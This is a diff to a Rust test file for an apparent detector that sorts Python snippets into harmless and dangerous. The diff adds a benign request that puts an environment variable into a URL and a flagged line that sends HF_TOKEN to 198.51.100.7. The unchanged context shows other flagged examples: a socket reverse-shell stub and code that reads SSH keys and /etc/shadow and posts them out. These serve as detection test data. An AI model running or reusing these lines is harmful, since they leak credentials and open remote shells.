@@ -38,6 +38,8 @@ fn what_a_script_may_do_is_no_danger() {
         "exec_ = getattr(builtins, 'exec')\nexec_(open('a.py').read())",
         "import pty\npty.spawn(sys.argv[1:], read)",
         "for c in Base.__subclasses__(): c()",
+        "requests.get('http://10.0.0.5:8000/' + os.environ['USER'])",
+        "requests.get(f\"https://api.example.org/{os.environ['TEAM']}\")",
         "urllib.request.urlretrieve(u, 'x.zip')\nos.system('unzip x.zip')\nsubprocess.run(['python', 'train.py'])",
         "subprocess.run([sys.executable, '-c', 'import torch; print(torch.__version__)'])",
         "class A:\n    def __reduce__(self):\n        return A, (self.x,)",
@@ -97,6 +99,7 @@ fn what_no_script_needs_is_a_danger() {
         ),
         ("s = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)", "shell:dup2"),
         ("requests.post(u, data=dict(os.environ))", "gives_away:environment"),
+        ("requests.get('http://198.51.100.7/?k=' + os.environ.get('HF_TOKEN', ''))", "gives_away:variable"),
         ("k = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=k)", "gives_away:/root/.ssh/id_rsa"),
         ("subprocess.check_output(['cat', '/etc/shadow'])\nrequests.post(u, data=x)", "gives_away:/etc/shadow"),
         (
